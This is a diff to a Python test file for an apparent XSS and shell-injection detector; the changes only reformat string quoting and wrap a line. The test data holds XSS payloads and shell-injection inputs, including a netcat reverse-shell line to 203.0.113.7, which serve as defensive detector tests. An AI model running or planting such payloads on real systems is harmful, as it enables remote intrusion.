@@ -106,7 +106,7 @@ def test_tokens_fold_unary_signs_arithmetic_and_lists() -> None:
         "<p>Hello <b>world</b></p>",
         '<a href="https://example.com/">a link</a>',
         '<img src="photo.jpg" alt="me">',
-        "He said \"online\" shop",
+        'He said "online" shop',
         "turn on the lights",
         "javascript: the good parts",
         "Javascript:",
@@ -130,7 +130,7 @@ def test_ordinary_markup_and_text_is_no_script(text: str) -> None:
         "' onmouseover='alert(1)",
         "<input onfocus=alert(1) autofocus>",
         '<a href="jav&#x09;ascript:alert(1)">x</a>',
-        "<iframe srcdoc=\"<script>alert(1)</script>\">",
+        '<iframe srcdoc="<script>alert(1)</script>">',
         '<div style="width:expression(alert(1))">',
         "<details open ontoggle=alert(1)>",
         "<x onxxx=1>",
@@ -222,6 +222,8 @@ def test_commands_are_recognised(payload: str) -> None:
 def test_headers_need_more_than_a_semicolon() -> None:
     user_agent = "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10"
     assert not is_shell_strict(user_agent)
-    assert not is_shell_strict("LiveJournal.com (webmaster@livejournal.com; for http://www.livejournal.com/; 1 readers)")
+    assert not is_shell_strict(
+        "LiveJournal.com (webmaster@livejournal.com; for http://www.livejournal.com/; 1 readers)"
+    )
     assert is_shell_strict(";chmod +x /tmp/x")
     assert is_shell_strict("x | nc -e /bin/sh 203.0.113.7 4444")
